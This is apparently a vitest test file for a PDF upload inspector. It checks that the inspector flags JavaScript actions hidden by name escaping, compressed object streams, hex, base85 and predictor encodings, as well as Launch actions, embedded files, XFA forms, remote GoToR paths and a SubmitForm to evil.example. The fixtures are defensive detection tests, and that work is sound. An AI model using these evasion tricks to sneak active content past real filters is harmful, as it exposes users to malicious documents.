/** What stands inside PDFs, in the open and packed away. */
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { attachmentFindings } from '../../../../src/intake/inspection/attachment.ts';

const foundIn = async (bytes: Buffer): Promise<string[]> =>
  (await attachmentFindings(bytes, 'pdf')).map(
    (one) => `${one.id === 'resource-unseen' ? '看不进：' : ''}${one.found ?? one.what}`,
  );

const pdf = (...objects: (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from(
      '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
      'latin1',
    ),
    ...objects.map((one, i) =>
      Buffer.concat([
        Buffer.from(`${i + 10} 0 obj\n`),
        Buffer.from(one),
        Buffer.from('\nendobj\n'),
      ]),
    ),
    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
  ]);
const stream = (dictionary: string, data: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const held = Buffer.from(`12 0 13 4 << >> ${script}`);
const head = '/Type /ObjStm /N 2 /First 10';
/** Rows of eight bytes with the kind of their difference before each. */
const rowsOf = (data: Buffer): Buffer => {
  const rows: Buffer[] = [];
  let above = Buffer.alloc(8);
  for (let i = 0; i < data.length; i += 8) {
    const row = Buffer.alloc(8, 32);
    data.subarray(i, i + 8).copy(row);
    rows.push(Buffer.from([2, ...row.map((one, at) => (one - (above[at] ?? 0)) & 0xff)]));
    above = row;
  }
  return Buffer.concat(rows);
};
const base85 = (data: Buffer): Buffer => {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const four = data.subarray(i, i + 4);
    const whole = Buffer.alloc(4);
    four.copy(whole);
    let value = whole.readUInt32BE();
    let group = '';
    for (let k = 0; k < 5; k += 1) {
      group = String.fromCharCode((value % 85) + 33) + group;
      value = Math.floor(value / 85);
    }
    out += group.slice(0, four.length + 1);
  }
  return Buffer.from(`${out}~>`);
};

describe('what is refused', () => {
  test.each<[string, Buffer, string]>([
    ['a script', pdf(script), '程序（JavaScript）'],
    ['without spaces', pdf('<</S/JavaScript/JS(x)>>'), '程序（JavaScript）'],
    ['in other letters', pdf('<< /S /J#61vaScript /JS (x) >>'), '程序（JavaScript）'],
    [
      'all in other letters',
      pdf('<</S/#4a#61#76#61#53#63#72#69#70#74/#4aS 5 0 R>>'),
      '程序（JavaScript）',
    ],
    ['when it is opened', pdf(`<< /OpenAction ${script} >>`), '程序（JavaScript）'],
    [
      'in a stream, where an object may begin as well',
      pdf(stream('', Buffer.from(`9 0 obj ${script}`))),
      '程序（JavaScript）',
    ],
    [
      'packed',
      pdf(stream(`${head} /Filter /FlateDecode`, deflateSync(held))),
      '程序（JavaScript）',
    ],
    [
      'packed, with the names in other letters',
      pdf(stream('/#4e 2 /F#69rst 10 /F#69lter /Fl', deflateSync(held))),
      '程序（JavaScript）',
    ],
    [
      'packed, said to be a picture',
      pdf(stream('/Subtype /Image /N 2 /First 10 /Filter [/FlateDecode]', deflateSync(held))),
      '程序（JavaScript）',
    ],
    [
      'packed, with a remark before',
      pdf(
        Buffer.concat([
          Buffer.from('%x\n'),
          stream(`${head} /Filter /FlateDecode`, deflateSync(held)),
        ]),
      ),
      '程序（JavaScript）',
    ],
    [
      'packed, with the word in a string',
      pdf(stream(`/A (obj << /N 1) ${head} /Filter /FlateDecode`, deflateSync(held))),
      '程序（JavaScript）',
    ],
    [
      'packed and cut off',
      pdf(stream(`${head} /Filter /FlateDecode`, deflateSync(held).subarray(0, -5))),
      '有一部分是用少见的办法压缩的',
    ],
    [
      'in hexadecimal',
      pdf(stream(`${head} /Filter /ASCIIHexDecode`, Buffer.from(`${held.toString('hex')}>`))),
      '程序（JavaScript）',
    ],
    [
      'in hexadecimal, packed',
      pdf(
        stream(`${head} /Filter [/AHx /Fl]`, Buffer.from(`${deflateSync(held).toString('hex')}>`)),
      ),
      '程序（JavaScript）',
    ],
    [
      'in base 85, packed',
      pdf(stream(`${head} /Filter [/ASCII85Decode /FlateDecode]`, base85(deflateSync(held)))),
      '程序（JavaScript）',
    ],
    [
      'as differences',
      pdf(
        stream(
          `${head} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>`,
          deflateSync(rowsOf(held)),
        ),
      ),
      '程序（JavaScript）',
    ],
    [
      'packed in a way no program packs objects',
      pdf(stream(`${head} /Filter /LZWDecode`, held)),
      '有一部分是用少见的办法压缩的',
    ],
    ['a program', pdf('<< /S /Launch /F (calc.exe) >>'), '会启动别的程序的动作'],
    ['a file in it', pdf('<< /Names << /EmbeddedFiles 3 0 R >> >>'), '夹带的文件'],
    ['a file pinned to a page', pdf('<< /Subtype /FileAttachment /FS 3 0 R >>'), '夹带的文件'],
    [
      'a file by its description',
      pdf('<< /Type /Filespec /F (a) /EF << /F 3 0 R >> >>'),
      '夹带的文件',
    ],
    [
      'a form of the other kind',
      pdf('<< /AcroForm << /XFA [(a) 3 0 R] >> >>'),
      '会运行的表单（XFA）',
    ],
    ['a player', pdf('<< /Subtype /RichMedia >>'), '音像或三维的插件'],
    ['another file', pdf('<< /S /GoToR /F (\\\\\\\\server\\\\a.pdf) >>'), '会打开别的文件的动作'],
    ['a file within', pdf('<< /S /GoToE >>'), '会打开别的文件的动作'],
    [
      'a form that sends',
      pdf('<< /S /SubmitForm /F (https://evil.example) >>'),
      '会送出或取来数据的表单',
    ],
    ['a form that fetches', pdf('<< /S /ImportData >>'), '会送出或取来数据的表单'],
  ])('%s', async (_, bytes, found) => {
    expect(await foundIn(bytes)).toContain(found);
  });

  test.each([
    ['a page', Buffer.from('<html>')],
    ['nothing', Buffer.alloc(0)],
    ['something before', Buffer.concat([Buffer.from('<script>'), pdf()])],
  ])('%s called a PDF', async (_, bytes) => {
    expect(await attachmentFindings(bytes, 'pdf')).toMatchObject([
      { id: 'resource-forbidden', allowed: '真正的 pdf 文件' },
    ]);
  });
});

describe('what stays', () => {
  test.each<[string, Buffer]>([
    ['a page to begin with', pdf('<< /OpenAction [3 0 R /XYZ null null 0] >>')],
    ['an action to a page', pdf('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>')],
    ['links', pdf('<< /S /URI /URI (https://a.example/launch) >>')],
    ['bookmarks', pdf('<< /Title (JavaScript 入门) /First 3 0 R /Count 1 >>')],
    ['a form to fill in', pdf('<< /AcroForm << /Fields [] /NeedAppearances true >> >>')],
    [
      'packed objects',
      pdf(
        stream(
          `${head} /Filter /FlateDecode`,
          deflateSync(Buffer.from('12 0 13 4 << >> << /S /GoTo >>')),
        ),
      ),
    ],
    [
      'a picture',
      pdf(stream('/Subtype /Image /Filter /DCTDecode', Buffer.from('\xff\xd8\xff', 'latin1'))),
    ],
  ])('%s', async (_, bytes) => {
    expect(await foundIn(bytes)).toEqual([]);
  });

  test('a protected one is told to whoever reviews it, and nothing else of it', async () => {
    const scrambled = stream(`${head} /Filter /FlateDecode`, Buffer.from('scrambled'));
    expect(await foundIn(pdf('<< /Encrypt 4 0 R >>', scrambled))).toEqual([
      '看不进：密码或权限的保护',
    ]);
  });

  test('the bytes of pictures never look like a script', async () => {
    const noise = Buffer.alloc(5 * 1024 * 1024 - 1024);
    let seed = 1;
    for (let i = 0; i < noise.length; i += 1) {
      seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
      noise[i] = seed >>> 24;
    }
    expect(await foundIn(pdf(stream('/Subtype /Image', noise)))).toEqual([]);
  });
});
